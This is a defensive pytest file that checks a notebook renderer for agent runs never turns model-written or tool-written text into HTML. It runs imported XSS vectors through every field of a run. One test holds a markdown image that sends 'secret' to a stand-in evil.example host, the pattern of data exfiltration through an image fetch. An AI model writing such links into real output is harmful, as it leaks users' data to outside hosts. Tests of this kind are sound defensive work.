"""Nothing that a model or a tool wrote becomes markup, and nothing of ours is taken away by Lab."""

from __future__ import annotations

import base64
from typing import Any

import pytest
from lab_sanitizer import refused
from trees import (
    Page,
    call,
    citation,
    failed_call,
    failure,
    html_of,
    leaving,
    payload,
    plain_of,
    run,
    tree,
)

from nbagents.notebook.cards.tool import tool_card, tool_list
from nbagents.notebook.saved.bundle import frozen_bundle
from nbagents.tools.tool.definition import Tool
from tests.hostile import hostile_tree
from tests.thinning import thinned
from tests.xss import CLASSES, VECTORS


def told(text: str) -> list[dict[str, Any]]:
    """Payloads of every kind that is drawn, with a text wherever a tool could have put it."""
    image = {"media_type": "image/png", "data": "AAAA"}
    return [
        payload("image", {**image, "alt": text, "width": text}),
        payload("image", {**image, "data": text}),
        payload("image", {**image, "media_type": text}),
        payload("table", {"columns": [text], "dtypes": [text], "rows": [[text]], "total": 3}),
        payload("table", {"columns": text, "rows": text, "total": text}),
        payload("file", {"name": text, "media_type": text, "size": 3, "data": text}),
        payload("mime", {"data": {"image/png": "AAAA", "text/plain": text}}),
        payload("mime", {"data": {"image/svg+xml": text, "text/plain": text}}),
        payload("mime", {"data": {"text/markdown": text}}),
        payload("mime", {"data": {"application/json": {text: text}}}),
        payload("mime", {"data": {"text/html": text, "text/plain": text}}),
        payload("mime", {"data": {text: text}, "metadata": text}),
        payload("cut", {"of": text, "note": text, "head": text}),
        payload("cut", {"of": "image", "note": text, "head": text}),
    ]


def everywhere(text: str) -> dict[str, Any]:
    """A tree that holds a text wherever a model, a tool or a person could have put it."""
    issue = {"field": text, "constraint": text, "message": text}
    bad = failure(text, kind=text, recovery=text, issues=[issue], debug_message=text)
    inner = run(
        call("c3", text, content=text),
        run_id="run-2",
        text=text,
        agent_name=text,
        prompt=text,
        failure=bad,
        status="failed",
    )
    outer = run(
        failed_call("c1", name=text, arguments={text: text}, failure=bad, child_run_ids=["run-2"]),
        call(
            "c2",
            text,
            arguments=text,
            hint=text,
            status="running",
            content=text,
            preview=text,
            source_hash=text,
            handle=text,
            progress={"message": text, "fraction": 0.5},
            output=[{"stream": text, "text": text}],
            payloads=[
                payload(text, {text: [text]}),
                payload("map", {"title": text, "pins": [{"lon": 1, "lat": 2, "label": text}]}),
                payload("map", {"center": text}),
                *told(text),
            ],
            bounds={"returned": 1, "total": 2, "truncated": True, "next_cursor": text},
        ),
        call(text, "nested", arguments={"deep": {text: [text]}}),
        text=text,
        agent_name=text,
        model=text,
        prompt=text,
        tools=[text],
        shared=[text],
        citations=[
            citation(text, text),
            citation(f"https://a.example/{text}", text),
            citation(None, text, file_id=text),
        ],
        forked_from=leaving(text),
    )
    outer["items"][:0] = [
        {"type": "thought", "step": 1, "text": text},
        {"type": "text", "step": 1, "text": text},
    ]
    return tree(outer, inner)


PARTS = 3
"""Of each class of vectors `make test` tries a third, and `make test-all` all."""
CASES = thinned([(of, part) for of in CLASSES for part in range(PARTS)], one_in=PARTS)


@pytest.mark.medium
@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case[0]} {case[1]}")
def test_what_a_model_wrote_is_never_markup(case: tuple[str, int]) -> None:
    of, part = case
    for vector in CLASSES[of][part::PARTS]:
        page = Page(html_of(frozen_bundle(everywhere(vector), "run-1")))
        assert refused(page.elements) == [], vector
        assert page.open_tags == [], vector


@pytest.mark.medium
@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case[0]} {case[1]}")
def test_payloads_of_every_kind_are_never_markup(case: tuple[str, int]) -> None:
    of, part = case
    for vector in CLASSES[of][part::PARTS]:
        hostile = hostile_tree(vector)
        page = Page(html_of(frozen_bundle(hostile, hostile["root_ids"][0])))
        assert refused(page.elements) == [], vector
        assert page.open_tags == [], vector


@pytest.mark.parametrize("of", CLASSES)
def test_what_a_tool_says_of_itself_is_never_markup(of: str) -> None:
    for vector in CLASSES[of]:
        for page in pages_of_a_tool(vector):
            assert refused(page.elements) == [], vector
            assert page.open_tags == [], vector


def pages_of_a_tool(vector: str) -> list[Page]:
    """The cards of a tool that says this of itself."""

    def function(arguments: dict[str, Any]) -> None:
        """Takes anything."""

    schema = {
        "type": "object",
        "properties": {vector: {"enum": [vector], "default": vector, "description": vector}},
    }
    tool = Tool.from_schema("trick", vector, schema, function)
    return [Page(html_of(bundle)) for bundle in (tool_card(tool), tool_list([tool]))]


def test_there_are_enough_tries() -> None:
    assert len(set(VECTORS)) >= 100


def test_a_text_is_shown_as_it_was_written() -> None:
    page = Page(html_of(frozen_bundle(everywhere("<b>&amp;</b>"), "run-1")))
    assert page.text.count("<b>&amp;</b>") > 20


@pytest.mark.parametrize("unseen", ["\x1b[31m", "\x07", "\u202e", "\x9b", "\ud800", "\r"])
def test_a_character_that_acts_unseen_is_written_out(unseen: str) -> None:
    bundle = frozen_bundle(everywhere(f"red{unseen}text"), "run-1")
    assert unseen not in html_of(bundle)
    assert unseen not in plain_of(bundle)


def test_a_picture_in_an_answer_is_a_link_so_that_nothing_is_fetched() -> None:
    answer = "![a cat](https://evil.example/?q=secret)"
    page = Page(html_of(frozen_bundle(tree(run(text=answer)), "run-1")))
    assert page.named("img") == []
    assert "[picture: a cat]" in page.text


def test_mathjax_is_told_to_leave_the_run_alone() -> None:
    first = Page(html_of(frozen_bundle(tree(run(text="$5 or $6")), "run-1"))).elements[0]
    assert {"tex2jax_ignore", "mathjax_ignore"} <= set(first[1]["class"].split())


def test_the_map_is_a_picture_without_script() -> None:
    shown = tree(run(call(payloads=[payload("map", {"center": {"lon": 1, "lat": 2}})])))
    (image,) = Page(html_of(frozen_bundle(shown, "run-1"))).named("img")
    svg = base64.b64decode(image["src"].partition("base64,")[2]).decode()
    assert svg.startswith("<svg ")
    assert "<script" not in svg


def test_a_usual_run_keeps_every_tag_attribute_and_style_in_lab() -> None:
    answer = "# Head\n\n1. [a](https://b.example)\n\n> q\n\n| a |\n|--:|\n| 1 |\n\n"
    answer += "```\nx\n```\n\n---\n~~d~~"
    shown = tree(
        run(
            *(call(f"c{number}") for number in range(9)),
            failed_call("bad", failure=failure("no", debug_message="Traceback")),
            call("map", payloads=[payload("map", {"zoom": 4}), payload("rows", [1, 2])]),
            text=answer,
        )
    )
    page = Page(html_of(frozen_bundle(shown, "run-1")))
    assert refused(page.elements) == []
    assert {"details", "table", "img", "a", "pre", "ol"} <= {tag for tag, _ in page.elements}
